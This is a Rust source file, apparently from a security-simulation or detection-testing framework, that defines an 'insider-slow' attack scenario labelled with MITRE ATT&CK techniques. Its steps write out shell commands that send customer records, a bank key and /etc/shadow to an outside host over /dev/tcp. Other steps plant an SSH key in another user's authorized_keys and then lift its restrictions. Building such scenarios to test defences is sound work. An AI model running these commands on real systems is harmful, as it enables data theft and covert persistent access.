// SPDX-License-Identifier: Apache-2.0
//! Somebody who works here takes their time: reads what alice may read, and later what only root may, carries it out in pieces, and
//! gives a key of their own into bob's account, bit by bit; in between, alice and everybody else do their work.

use super::persistence::{people, weakness};
use super::{Actor, Knocks, Material, Names, Plan, Scenario, Step, pace, public_key, step, units};
use crate::outside::host;
use crate::random::Random;
use std::time::Duration;

pub(super) const SCENARIO: Scenario = Scenario {
    name: "insider-slow",
    about: "an account with access reads secrets, carries them out in pieces and adds a key to another's account, slowly",
    benign: false,
    plan,
};

const KEYS: &str = "/home/bob/.ssh/authorized_keys";
const SECRET: &str = "/srv/shop/bank.key";
const CUSTOMERS: &str = "/srv/shop/customers.csv";
/// As useradd(8) numbers them in the base.
const ALICE: u32 = 1001;

fn plan(random: &mut Random, _: Material<'_>) -> Plan {
    let mut names = Names::new(random);
    let (weak, escalation) = weakness(random, &mut names, "alice");
    let mut units = units();
    let mut benign = people(random, &mut names, &mut units);
    pace(&mut benign, random, 1_200);
    let number = |random: &mut Random, from: u64, to: u64| u8::try_from(random.between(from, to)).unwrap_or(9);
    let (source, away) = (host(number(random, 60, 99)), host(number(random, 150, 199)));
    let deed = |technique, title: &str, script: String, paths: &[&str]| Step {
        technique: Some(technique),
        ..step(Actor::Intruder, title, script, paths)
    };
    let carry = |what: &str| format!("bash -c '{what} >/dev/tcp/{away}/443'");
    let mut attack_user = vec![
        deed("T1083", "the insider looks what is there", "ls -l /srv/shop; sudo -n -l".to_owned(), &[]),
        deed("T1048", "the insider carries out some customers", carry(&format!("head -c 900 {CUSTOMERS}")), &[]),
        deed("T1048", "the insider carries out more of them", carry(&format!("tail -c +901 {CUSTOMERS}")), &[]),
        Step {
            secrets: vec![SECRET.to_owned()],
            ..deed("T1552.004", "the insider carries out a key", carry(&format!("cat {SECRET}")), &[])
        },
    ];
    let key = public_key(random, &names.take());
    let mut attack_root = vec![
        deed("T1098.004", "the insider puts a remark into bob's keys", format!("echo '# laptop' >>{KEYS}"), &[KEYS]),
        deed(
            "T1098.004",
            "the insider adds a key that may do nothing",
            format!("echo 'restrict {key}' >>{KEYS}"),
            &[KEYS],
        ),
        Step {
            secrets: vec!["/etc/shadow".to_owned()],
            ..deed("T1003.008", "the insider carries out the passwords", carry("cat /etc/shadow"), &[])
        },
        deed("T1098.004", "the insider lets the key do everything", format!("sed -i 's/^restrict //' {KEYS}"), &[KEYS]),
    ];
    for step in attack_user.iter_mut().chain(&mut attack_root) {
        step.pause = Duration::from_millis(random.between(800, 2_500));
    }
    let customers: String = (0..60).map(|_| format!("{},{}\n", random.word(9), random.word(14))).collect();
    Plan {
        planted: vec![
            weak,
            (SECRET.to_owned(), format!("{}\n", random.word(40)), 0o600, ALICE),
            (CUSTOMERS.to_owned(), customers, 0o640, ALICE),
        ],
        decoys: true,
        escalation,
        source: source.to_string(),
        benign,
        attack_user,
        attack_root,
        shared: vec![KEYS.to_owned()],
        units,
        knocks: Some(Knocks { source, count: 0, called: vec![(away, 443)] }),
        named: vec!["T1098.004", "T1003.008"],
        ..Plan::default()
    }
}
